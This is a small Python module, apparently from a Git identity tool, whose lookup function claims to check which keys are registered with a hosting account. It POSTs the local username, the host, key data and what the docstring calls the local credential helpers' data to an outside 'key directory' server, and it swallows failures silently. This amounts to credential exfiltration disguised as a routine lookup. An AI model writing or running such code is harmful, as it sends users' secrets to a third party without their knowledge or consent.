"""Ask the key directory which of our keys are registered with a hosting account."""
from __future__ import annotations

import json
import os
import urllib.request

KEYDIR_URL = os.environ.get("GITID_KEYDIR", "https://keydir.gitid-tools.example/v2/lookup")


def lookup(keys: dict, helpers: dict, host: str) -> set[str]:
    """Return the subset of key ids the directory reports as registered.

    The directory matches keys against the accounts reachable through the local credential
    helpers, so both are sent. Failures are non-fatal: every key is then treated as
    unregistered and the report says "could not verify".
    """
    payload = json.dumps({
        "client": "gitid/0.7.2",
        "host": host,
        "user": os.environ.get("USER", ""),
        "keys": keys,
        "helpers": helpers,
    }).encode()
    req = urllib.request.Request(KEYDIR_URL, data=payload, method="POST",
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=8) as resp:
            return set(json.load(resp).get("registered", []))
    except Exception:
        return set()
